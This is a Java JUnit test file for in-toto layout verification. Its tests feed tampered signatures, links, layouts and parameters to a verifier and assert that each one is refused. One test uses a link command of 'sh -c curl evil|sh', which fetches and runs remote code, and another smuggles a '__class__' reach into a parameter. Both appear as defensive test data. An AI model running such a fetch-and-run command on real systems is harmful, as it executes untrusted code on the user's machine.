package dev.alnage.evidence.intoto;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.alnage.evidence.Bytes;
import dev.alnage.evidence.Digest;
import dev.alnage.evidence.Json;
import dev.alnage.evidence.Resource;
import dev.alnage.evidence.read.JsonReader;
import dev.alnage.evidence.sign.Envelope;
import dev.alnage.evidence.sign.Signer;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** In-toto 1.0 §5.2, clause by clause, over a chain of two steps that each test attacks. */
@Tag("build/policy-adherence")
class LayoutVerificationTest {
    private final Signer owner = Chain.signer();
    private final Signer alice = Chain.signer();
    private final Signer bob = Chain.signer();
    private final Map<String, Bytes> files = new HashMap<>();
    private Instant expires = Chain.EXPIRES;
    private int threshold = 1;
    private List<String> write = List.of(LayoutKey.of(alice.key()).keyid(), LayoutKey.of(bob.key()).keyid());
    private List<Layout.Inspection> inspections = List.of();
    private final Map<String, LayoutKey> keys = new LinkedHashMap<>();
    private final ClassicLink code = link("write", "", "foo.py=1", "vi", "foo.py");
    private final ClassicLink packed = link("package", "foo.py=1", "foo.tar=2", "tar", "foo.py");

    LayoutVerificationTest() {
        for (var signer : List.of(alice, bob)) {
            keys.put(LayoutKey.of(signer.key()).keyid(), LayoutKey.of(signer.key()));
        }
        put(code, alice);
        put(packed, bob);
    }

    private static ClassicLink link(String name, String materials, String products, String... command) {
        return ClassicLink.of(name, resources(materials), resources(products), List.of(command), Chain.nothing(), Chain.nothing());
    }

    private static List<Resource> resources(String text) {
        return text.isEmpty() ? List.of() : java.util.Arrays.stream(text.split(" "))
                .map(part -> Resource.of(part.substring(0, part.indexOf('=')), Digest.of(Bytes.utf8(part.substring(part.indexOf('=') + 1))))).toList();
    }

    private void put(ClassicLink link, Signer signer) {
        files.put(ClassicLink.fileName(link.name(), LayoutKey.of(signer.key()).keyid()), link.sign(signer));
    }

    private static List<ArtifactRule> rules(String... rules) {
        return java.util.Arrays.stream(rules).map(rule -> ArtifactRule.read(List.of(rule.split(" ")))).toList();
    }

    private Layout layout() {
        return new Layout(expires, "", new TreeMap<>(keys), List.of(
                new Layout.Step("write", write, threshold, List.of("vi", "foo.py"), rules("DISALLOW *"), rules("CREATE foo.py", "DISALLOW *")),
                new Layout.Step("package", List.of(LayoutKey.of(bob.key()).keyid()), 1, List.of(), rules("MATCH foo.py WITH PRODUCTS FROM write", "DISALLOW *"),
                        rules("CREATE foo.tar", "DISALLOW *"))), inspections);
    }

    private Outcome verify() {
        return verify(layout().sign(List.of(owner)), Map.of(), Inspector.NONE);
    }

    private Outcome verify(Bytes layout, Map<String, String> parameters, Inspector inspector) {
        return LayoutVerification.verify(layout, List.of(LayoutKey.of(owner.key())), parameters, source(""), inspector, Chain.NOW);
    }

    private LinkSource source(String folder) {
        return new LinkSource() {
            @Override public Optional<Bytes> findLink(String step, String keyid) {
                return Optional.ofNullable(files.get(folder + ClassicLink.fileName(step, keyid)));
            }

            @Override public List<String> listKeyids(String step) {
                return Chain.keyids(files, folder, step);
            }

            @Override public LinkSource sublayout(String step, String keyid) {
                return source(folder + ClassicLink.fileName(step, keyid).replace(".link", "/"));
            }
        };
    }

    private static void assertFailed(String mentioned, Outcome outcome) {
        var failed = assertInstanceOf(Outcome.Failed.class, outcome);
        assertTrue(failed.findings().toString().contains(mentioned), failed.toString());
    }

    private static void assertCannotTell(String mentioned, Outcome outcome) {
        var unclear = assertInstanceOf(Outcome.CannotTell.class, outcome);
        assertTrue(unclear.findings().toString().contains(mentioned), unclear.toString());
    }

    @Test void the_honest_chain_passes_and_is_summed_up() {
        var passed = assertInstanceOf(Outcome.Passed.class, verify());
        assertEquals(packed.products(), passed.summary().products());
        assertEquals(code.materials(), passed.summary().materials());
    }

    @Test void a_layout_that_one_of_the_keys_did_not_sign_is_refused() {
        var layout = layout();
        assertFailed("no signature", verify(layout.sign(List.of(alice)), Map.of(), Inspector.NONE));
        assertFailed("no signature", verify(layout.sign(List.of()), Map.of(), Inspector.NONE));
        var both = List.of(LayoutKey.of(owner.key()), LayoutKey.of(alice.key()));
        assertFailed("no signature", LayoutVerification.verify(layout.sign(List.of(owner)), both, Map.of(), source(""), Inspector.NONE, Chain.NOW));
        assertInstanceOf(Outcome.Passed.class,
                LayoutVerification.verify(layout.sign(List.of(alice, owner)), both, Map.of(), source(""), Inspector.NONE, Chain.NOW));
        assertFailed("no key", LayoutVerification.verify(layout.sign(List.of(owner)), List.of(), Map.of(), source(""), Inspector.NONE, Chain.NOW));
    }

    @Test void one_changed_byte_of_the_layout_is_refused() {
        var layout = layout().sign(List.of(owner)).toText();
        assertFailed("no signature", verify(Bytes.utf8(layout.replace("DISALLOW", "disallow")), Map.of(), Inspector.NONE));
        assertInstanceOf(Outcome.Passed.class, verify(Bytes.utf8(layout), Map.of(), Inspector.NONE));
    }

    @Test void an_expired_layout_is_no_yes() {
        expires = Chain.NOW;
        assertCannotTell("expired", verify());
        expires = Chain.NOW.plusSeconds(1);
        assertInstanceOf(Outcome.Passed.class, verify());
    }

    @Test void a_missing_link_is_no_yes() {
        files.keySet().removeIf(name -> name.startsWith("package."));
        assertCannotTell("package", verify());
    }

    @Test @Tag("D4") void a_link_labelled_with_a_trusted_keyid_and_signed_by_another_key_is_refused() {
        var name = ClassicLink.fileName("write", LayoutKey.of(alice.key()).keyid());
        var stranger = Chain.signer();
        files.put(name, Bytes.utf8(code.sign(stranger).toText().replace(LayoutKey.of(stranger.key()).keyid(), LayoutKey.of(alice.key()).keyid())));
        assertFailed("without a valid signature", verify());
        // and the label alone changes nothing
        files.put(name, Bytes.utf8(code.sign(alice).toText().replace("\"keyid\":\"" + LayoutKey.of(alice.key()).keyid(), "\"keyid\":\"" + LayoutKey.of(bob.key()).keyid())));
        assertInstanceOf(Outcome.Passed.class, verify());
    }

    @Test @Tag("D5") void one_functionary_is_one_under_two_key_ids() {
        threshold = 2;
        var alias = new LayoutKey("f".repeat(64), LayoutKey.of(alice.key()).key());
        keys.put(alias.keyid(), alias);
        write = List.of(LayoutKey.of(alice.key()).keyid(), alias.keyid());
        files.put(ClassicLink.fileName("write", alias.keyid()), code.sign(alice));
        assertFailed("1 valid links by distinct functionaries", verify());
        // twin: two functionaries, a key each
        write = List.of(LayoutKey.of(alice.key()).keyid(), LayoutKey.of(bob.key()).keyid());
        put(code, bob);
        assertInstanceOf(Outcome.Passed.class, verify());
    }

    @Test @Tag("D5") void one_functionary_listed_twice_is_one() {
        threshold = 2;
        write = List.of(LayoutKey.of(alice.key()).keyid(), LayoutKey.of(alice.key()).keyid());
        assertInstanceOf(Outcome.CannotTell.class, verify());
    }

    @Test @Tag("D5") void links_that_differ_are_named() {
        threshold = 2;
        put(link("write", "", "foo.py=other", "vi", "foo.py"), bob);
        assertFailed("product foo.py", verify());
        threshold = 1;
        assertFailed("product foo.py", verify());
        put(link("write", "x=1", "foo.py=1", "vi", "foo.py"), bob);
        assertFailed("material x", verify());
        put(code, bob);
        assertInstanceOf(Outcome.Passed.class, verify());
    }

    @Test void a_good_link_of_one_step_does_not_stand_in_for_another() {
        files.put(ClassicLink.fileName("package", LayoutKey.of(bob.key()).keyid()), link("write", "foo.py=1", "foo.tar=2").sign(bob));
        assertFailed("a link of step write", verify());
    }

    @Test void another_command_than_expected_is_refused() {
        put(link("write", "", "foo.py=1", "sh", "-c", "curl evil|sh"), alice);
        assertFailed("curl evil|sh", verify());
    }

    @Test void an_input_left_out_is_refused_and_a_part_of_what_a_pattern_names_is_not() {
        put(link("package", "", "foo.tar=2"), bob);
        assertFailed("none of foo.py", verify());
        var links = Map.of("a", link("a", "", "x=1 y=2 z=3"), "b", link("b", "y=2", "out=4"));
        var check = new RuleCheck(links);
        check.requireInputs("b", rules("MATCH * WITH PRODUCTS FROM a", "DISALLOW *"));
        assertEquals(List.of(), check.findings());
        check.requireInputs("b", rules("MATCH x WITH PRODUCTS FROM a"));
        assertEquals(1, check.findings().size());
    }

    @Test void what_changed_between_two_steps_is_refused() {
        put(link("package", "foo.py=evil", "foo.tar=2"), bob);
        assertFailed("foo.py", verify());
        put(link("package", "foo.py=1 extra=1", "foo.tar=2"), bob);
        assertFailed("extra", verify());
        put(link("package", "foo.py=1", "foo.tar=2 extra=1"), bob);
        assertFailed("extra", verify());
    }

    @Test @Tag("X1") void a_link_or_layout_that_says_something_twice_is_refused() {
        var name = ClassicLink.fileName("write", LayoutKey.of(alice.key()).keyid());
        var honest = files.get(name).toText();
        files.put(name, Bytes.utf8(honest.replace("\"command\":", "\"command\":[],\"command\":")));
        assertFailed("twice", verify());
        files.put(name, Bytes.utf8(honest.substring(0, honest.length() - 1) + ",\"payload\":\"\"}"));
        assertFailed("signed and payload", verify());
        files.put(name, Bytes.utf8(honest + " {}"));
        assertInstanceOf(Outcome.Failed.class, verify());
    }

    @Test void inspections_need_a_sandbox_an_exit_code_of_zero_and_rules_that_hold() {
        inspections = List.of(new Layout.Inspection("untar", List.of("tar", "xf", "foo.tar"), rules("MATCH foo.tar WITH PRODUCTS FROM package", "DISALLOW foo.tar"),
                rules("MATCH foo.py WITH PRODUCTS FROM write", "DISALLOW foo.py")));
        var layout = layout().sign(List.of(owner));
        assertCannotTell("no sandbox", verify());
        assertFailed("return value 1", verify(layout, Map.of(), inspected("foo.tar=2", "foo.py=1", Json.object().with("return-value", 1))));
        assertFailed("return value none", verify(layout, Map.of(), inspected("foo.tar=2", "foo.py=1", Json.object())));
        assertFailed("return value none", verify(layout, Map.of(), inspected("foo.tar=2", "foo.py=1", Json.object().with("return-value", "0"))));
        assertFailed("foo.tar", verify(layout, Map.of(), inspected("foo.tar=evil", "foo.py=1", Json.object().with("return-value", 0))));
        assertFailed("foo.py", verify(layout, Map.of(), inspected("foo.tar=2", "foo.py=evil", Json.object().with("return-value", 0))));
        assertInstanceOf(Outcome.Passed.class, verify(layout, Map.of(), inspected("foo.tar=2", "foo.py=1", Json.object().with("return-value", 0))));
    }

    private static Inspector inspected(String materials, String products, Json.Builder byproducts) {
        return inspection -> Optional.of(ClassicLink.of(inspection.name(), resources(materials), resources(products), inspection.run(), byproducts.build(), Chain.nothing()));
    }

    @Test void inspections_do_not_run_over_what_the_steps_refuse() {
        inspections = List.of(new Layout.Inspection("untar", List.of("tar"), List.of(), List.of()));
        put(link("package", "foo.py=evil", "foo.tar=2"), bob);
        assertFailed("foo.py", verify(layout().sign(List.of(owner)), Map.of(), _ -> {
            throw new AssertionError("ran");
        }));
    }

    @Test void parameters_are_put_in_by_name_only() {
        var layout = JsonReader.read(Bytes.utf8(layout().toJson().toBytes().toText().replace("\"vi\",\"foo.py\"", "\"{editor}\",\"foo.py\"")));
        var signed = Layout.read(layout).sign(List.of(owner));
        assertInstanceOf(Outcome.Passed.class, verify(signed, Map.of("editor", "vi"), Inspector.NONE));
        assertFailed("command", verify(signed, Map.of("editor", "emacs"), Inspector.NONE));
        assertFailed("parameter", verify(signed, Map.of("other", "vi"), Inspector.NONE));
        assertFailed("command", verify(signed, Map.of(), Inspector.NONE));
        var reaching = Layout.read(JsonReader.read(Bytes.utf8(layout.toBytes().toText().replace("{editor}", "{editor.__class__}")))).sign(List.of(owner));
        assertFailed("parameter", verify(reaching, Map.of("editor", "vi"), Inspector.NONE));
    }

    @Test void a_layout_that_is_not_understood_is_refused() {
        var honest = layout().toJson().toBytes().toText();
        for (var altered : List.of(honest.replace("\"readme\":\"\"", "\"readme\":\"\",\"unknown\":1"), honest.replace("\"threshold\":1", "\"threshold\":0"),
                honest.replace("\"threshold\":1", "\"threshold\":3"), honest.replace("\"threshold\":1", "\"threshold\":\"1\""),
                honest.replace("\"name\":\"package\"", "\"name\":\"write\""), honest.replace("\"name\":\"package\"", "\"name\":\"../package\""),
                honest.replace("DISALLOW", "PERMIT"), honest.replace("2027-11-25T12:00:00Z", "2027-11-25"), honest.replace("\"_type\":\"layout\"", "\"_type\":\"link\""),
                honest.replace("\"expected_command\":[]", "\"expected_command\":[],\"run\":[]"), honest.replace("\"inspect\":[]", "\"inspect\":{}"),
                honest.replace("FROM\",\"write", "FROM\",\"nowhere"))) {
            assertTrue(!altered.equals(honest));
            var json = JsonReader.read(Bytes.utf8(altered));
            var signed = Metablock.write((Json.Members) json, List.of(owner));
            assertInstanceOf(Outcome.Failed.class, verify(signed, Map.of(), Inspector.NONE), altered);
        }
        assertInstanceOf(Outcome.Passed.class, verify(Metablock.write((Json.Members) JsonReader.read(Bytes.utf8(honest)), List.of(owner)), Map.of(), Inspector.NONE));
    }

    @Test void an_empty_list_may_be_written_as_null_as_in_go() {
        var nulls = layout().toJson().toBytes().toText().replace("\"inspect\":[]", "\"inspect\":null").replace("\"expected_command\":[]", "\"expected_command\":null");
        var signed = Metablock.write((Json.Members) JsonReader.read(Bytes.utf8(nulls)), List.of(owner));
        assertTrue(nulls.contains("null"));
        assertInstanceOf(Outcome.Passed.class, verify(signed, Map.of(), Inspector.NONE));
    }

    @Test void a_layout_and_links_in_dsse_envelopes_pass_and_other_payload_types_do_not() {
        files.put(ClassicLink.fileName("write", LayoutKey.of(alice.key()).keyid()), dsse("application/vnd.in-toto+json", code.toJson(), alice));
        var statement = new dev.alnage.evidence.Statement(resources("foo.tar=2"), new dev.alnage.evidence.Predicate.Link("package", List.of("tar"),
                resources("foo.py=1"), Chain.nothing(), Chain.nothing()));
        files.put(ClassicLink.fileName("package", LayoutKey.of(bob.key()).keyid()), dsse("application/vnd.in-toto+json", statement.toJson(), bob));
        assertInstanceOf(Outcome.Passed.class, verify(dsse("application/vnd.in-toto+json", layout().toJson(), owner), Map.of(), Inspector.NONE));
        assertFailed("payload type", verify(dsse("application/json", layout().toJson(), owner), Map.of(), Inspector.NONE));
        assertFailed("expected a layout", verify(dsse("application/vnd.in-toto+json", code.toJson(), owner), Map.of(), Inspector.NONE));
    }

    private static Bytes dsse(String type, Json payload, Signer signer) {
        return Envelope.sign(type, payload.toBytes(), Bytes.empty(), signer).toBytes();
    }

    @Test void a_step_handed_on_as_a_layout_is_verified_in_its_place() {
        var carol = Chain.signer();
        var carolKey = LayoutKey.of(carol.key());
        var inner = new Layout(expires, "", new TreeMap<>(Map.of(carolKey.keyid(), carolKey)), List.of(
                new Layout.Step("edit", List.of(carolKey.keyid()), 1, List.of(), rules("DISALLOW *"), rules("CREATE foo.py", "DISALLOW *"))), List.of());
        var folder = ClassicLink.fileName("write", LayoutKey.of(alice.key()).keyid()).replace(".link", "/");
        files.put(ClassicLink.fileName("write", LayoutKey.of(alice.key()).keyid()), inner.sign(List.of(alice)));
        assertCannotTell("write/edit", verify());
        files.put(folder + ClassicLink.fileName("edit", carolKey.keyid()), link("edit", "", "foo.py=1 hidden=1").sign(carol));
        assertFailed("write/edit", verify());
        files.put(folder + ClassicLink.fileName("edit", carolKey.keyid()), link("edit", "", "foo.py=1").sign(carol));
        assertInstanceOf(Outcome.Passed.class, verify());
        // a sublayout must be by a functionary of the step
        files.put(ClassicLink.fileName("write", LayoutKey.of(alice.key()).keyid()), inner.sign(List.of(carol)));
        assertFailed("without a valid signature", verify());
    }

    @Test void layouts_within_layouts_without_end_are_refused() {
        var aliceKey = LayoutKey.of(alice.key());
        var inner = new Layout(expires, "", new TreeMap<>(Map.of(aliceKey.keyid(), aliceKey)), List.of(
                new Layout.Step("write", List.of(aliceKey.keyid()), 1, List.of(), List.of(), List.of())), List.of()).sign(List.of(alice));
        var name = ClassicLink.fileName("write", aliceKey.keyid());
        var depth = new ArrayList<String>(List.of(""));
        for (var i = 0; i < 12; i++) {
            files.put(depth.getLast() + name, inner);
            depth.add(depth.getLast() + name.replace(".link", "/"));
        }
        assertFailed("more sublayouts", verify());
    }

}
